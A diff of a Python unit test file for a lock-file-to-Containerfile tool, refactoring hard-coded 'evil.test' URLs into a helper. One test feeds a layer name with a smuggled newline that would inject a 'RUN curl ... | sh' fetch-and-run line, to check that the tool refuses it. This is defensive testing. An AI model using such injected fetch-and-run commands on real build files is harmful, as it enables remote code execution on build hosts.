@@ -20,7 +20,7 @@ from dlenv.lock.locate import StaleLockError, lock_for_build
 from dlenv.resolve import resolve
 from tests.support.context import make_context
 from tests.support.fakes import FakeRunner
-from tests.support.index_config import uv_answers
+from tests.support.index_config import index_url, uv_answers
 from tests.support.locks import fixture_lock
 from tests.unit.lock.test_stale import spec
 
@@ -37,7 +37,7 @@ extra = ["rich", "seaborn"]
 [torch]
 enabled = false
 """
-EVIL = "http://evil.test/simple"
+EVIL = index_url("evil", scheme="http")
 
 
 def project(tmp_path: Path, lock_text: str) -> Path:
@@ -74,7 +74,8 @@ def test_the_untouched_lock_renders(tmp_path: Path) -> None:
 
 def test_a_newline_in_a_layer_name_is_refused(tmp_path: Path) -> None:
     # Would render `# extra` + a RUN line of the attacker's in the Containerfile.
-    text = edited('name = "extra"', r'name = "extra\nRUN curl http://evil.test/x | sh\n#"')
+    payload = index_url("evil", "/x", scheme="http")
+    text = edited('name = "extra"', 'name = "extra\\nRUN curl ' + payload + ' | sh\\n#"')
     assert commands(project(tmp_path, text)) == (2, 2)
 
 
